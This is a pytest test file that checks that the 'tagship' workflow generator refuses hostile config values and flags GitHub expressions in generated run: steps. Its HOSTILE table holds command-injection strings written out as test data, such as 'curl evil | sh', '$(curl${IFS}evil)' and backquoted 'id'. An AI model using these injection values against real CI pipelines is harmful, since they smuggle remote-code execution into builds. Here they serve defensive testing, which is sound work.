"""Config values that `tagship init` writes into the generated workflows: a GitHub expression
(`${{ ... }}`, pasted into the script before it runs), or text that would break the YAML or
the shell around it, is refused naming its key (exit 2) and nothing is written; `doctor` and
`init --check` flag a generated workflow that carries an expression in a `run:`."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from hostile import assert_refused, snapshot
from workflow_lint import assert_linted

if TYPE_CHECKING:
    from conftest import Cli, MakeRepo, Repo

PROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "charmos"
version = "0.4.22"
requires-python = ">=3.10"

[tool.tagship.github]
owner = "CharmAIOS"
repository = "Charm"
"""
TITLE = "${{ github.event.pull_request.title }}"
# key named in the refusal -> the [tool.tagship] text that sets it
HOSTILE = {
    "expression in a check": (
        "tool.tagship.checks.lint",
        f'[tool.tagship.checks]\nlint = "ruff check . {TITLE}"\n',
    ),
    "expression in check-setup": (
        "tool.tagship.check-setup",
        f"[tool.tagship]\ncheck-setup = 'pip install -e . {TITLE}'\n",
    ),
    "expression in install-tagship": (
        "tool.tagship.install-tagship",
        "[tool.tagship]\ninstall-tagship = 'git+https://example.com/t@${{ github.head_ref }}'\n",
    ),
    "quote out of install-tagship": (
        "tool.tagship.install-tagship",
        "[tool.tagship]\ninstall-tagship = 'git+https://example.com/t\" ; curl evil | sh ; \"'\n",
    ),
    "expression in an environment": (
        "tool.tagship.indexes.pypi.environment",
        "[tool.tagship.indexes.pypi]\nenvironment = 'pypi${{ github.head_ref }}'\n",
    ),
    "expression in a simple-url": (
        "tool.tagship.indexes.testpypi.simple-url",
        (
            "[tool.tagship.indexes.testpypi]\n"
            "simple-url = 'https://test.pypi.org/${{ github.head_ref }}/simple/'\n"
        ),
    ),
    "command substitution in release-branch": (
        "tool.tagship.release-branch",
        "[tool.tagship]\nrelease-branch = 'main$(curl${IFS}evil)'\n",
    ),
    "backquotes in hotfix-branches": (
        "tool.tagship.hotfix-branches",
        "[tool.tagship]\nhotfix-branches = 'hotfix/`id`*'\n",
    ),
    "a check name that is no job id": (
        "tool.tagship.required-checks",
        "[tool.tagship]\nrequired-checks = ['lint', 'lint\" ; curl evil #']\n",
    ),
    "a line separator in a check": (
        "tool.tagship.checks.lint",
        '[tool.tagship.checks]\nlint = "ruff check .\\u2028mypy ."\n',
    ),
    "a carriage return in a check": (
        "tool.tagship.checks.lint",
        '[tool.tagship.checks]\nlint = "ruff check .\\rmypy ."\n',
    ),
    "an escape character in a check": (
        "tool.tagship.checks.lint",
        '[tool.tagship.checks]\nlint = "ruff check .\\u001b[2K"\n',
    ),
    "a newline in an environment": (
        "tool.tagship.indexes.pypi.environment",
        '[tool.tagship.indexes.pypi]\nenvironment = "pypi\\nurl: x"\n',
    ),
}


def _repo(make_repo: MakeRepo, policy: str) -> Repo:
    return make_repo({"pyproject.toml": PROJECT + "\n" + policy})


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_workflow_value_is_refused_and_nothing_is_written(
    cli: Cli, make_repo: MakeRepo, case: str
) -> None:
    key, policy = HOSTILE[case]
    repo = _repo(make_repo, policy)
    before = snapshot(repo.path)
    error = assert_refused(cli("-C", str(repo.path), "init"), 2)
    assert f"`{key}`" in error
    assert snapshot(repo.path) == before
    assert not (repo.path / ".github").exists()
    check = assert_refused(cli("-C", str(repo.path), "init", "--check"), 2)
    assert f"`{key}`" in check


def test_an_expression_is_refused_with_how_to_pass_the_value(cli: Cli, make_repo: MakeRepo) -> None:
    repo = _repo(make_repo, HOSTILE["expression in a check"][1])
    error = assert_refused(cli("-C", str(repo.path), "init"), 2)
    assert "${{" in error
    assert "environment variable" in error
    assert "$GITHUB_" in error


def test_the_safe_spellings_are_written_exactly_and_pass_zizmor(
    cli: Cli, make_repo: MakeRepo
) -> None:
    # what the refusal suggests (GitHub's own variables), a tab, and a TOML multi-line
    # command whose lines are indented: each must reach the job as written
    lint = '    ruff check .\n    echo "checking $GITHUB_HEAD_REF"\n'
    policy = (
        "[tool.tagship.checks]\n"
        f'lint = """\n{lint}"""\n'
        'typecheck = "mypy\\t."\n'
        'tests = "pytest -k \\"not slow\\" # quick"\n'
    )
    repo = _repo(make_repo, policy)
    result = cli("-C", str(repo.path), "init")
    assert result.code == 0, result.err
    text = (repo.path / ".github/workflows/ci.yml").read_text()
    jobs: dict[str, Any] = yaml.safe_load(text)["jobs"]
    assert jobs["lint"]["steps"][-1]["run"] == lint
    assert jobs["typecheck"]["steps"][-1]["run"] == "mypy\t."
    assert jobs["tests"]["steps"][-1]["run"] == 'pytest -k "not slow" # quick'
    assert_linted(repo.path)


def _with_expression(repo: Repo) -> str:
    """Put an expression into the last run: of the generated ci.yml, as an older config or a
    hand edit would have; returns the workflow's path."""
    relative = ".github/workflows/ci.yml"
    target = repo.path / relative
    text = target.read_text()
    edited = text.replace("run: ruff check .\n", f"run: ruff check . {TITLE}\n", 1)
    assert edited != text
    target.write_text(edited)
    return relative


def test_doctor_flags_an_expression_in_a_generated_run(cli: Cli, make_repo: MakeRepo) -> None:
    repo = _repo(make_repo, '[tool.tagship.checks]\nlint = "ruff check ."\n')
    assert cli("-C", str(repo.path), "init").code == 0
    relative = _with_expression(repo)
    result = cli("-C", str(repo.path), "doctor", "--format", "json")
    assert result.code == 1
    report = json.loads(result.out)
    ours = [f for f in report["findings"] if f["rule"] == "generated-run-expression"]
    assert len(ours) == 1, report["findings"]
    (finding,) = ours
    assert finding["path"] == relative
    lines = (repo.path / relative).read_text().splitlines()
    assert TITLE in lines[finding["line"] - 1]
    assert "tagship init" in finding["fix"]


def test_init_check_names_the_expression_it_would_remove(cli: Cli, make_repo: MakeRepo) -> None:
    repo = _repo(make_repo, '[tool.tagship.checks]\nlint = "ruff check ."\n')
    assert cli("-C", str(repo.path), "init").code == 0
    relative = _with_expression(repo)
    error = assert_refused(cli("-C", str(repo.path), "init", "--check"), 1)
    assert relative in error
    assert "${{" in error


def test_only_the_jobs_that_need_it_may_write_the_repository(cli: Cli, make_repo: MakeRepo) -> None:
    # the gate keeps contents: write on the tag: `tagship check-tag` requires the draft
    # Release, and GitHub lists drafts only to a token that may write (README notes)
    repo = _repo(make_repo, "")
    assert cli("-C", str(repo.path), "init").code == 0
    for name, writers in (
        ("publish-pypi.yml", {"gate", "record", "github-release"}),
        ("publish-testpypi.yml", {"record"}),
    ):
        jobs = yaml.safe_load((repo.path / ".github/workflows" / name).read_text())["jobs"]
        assert {j for j, job in jobs.items() if job["permissions"]["contents"] == "write"} == (
            writers
        )
    gate = yaml.safe_load((repo.path / ".github/workflows/publish-pypi.yml").read_text())
    runs = [s["run"] for s in gate["jobs"]["gate"]["steps"] if "run" in s]
    assert runs[1:] == ['tagship check-tag "$GITHUB_REF_NAME"']
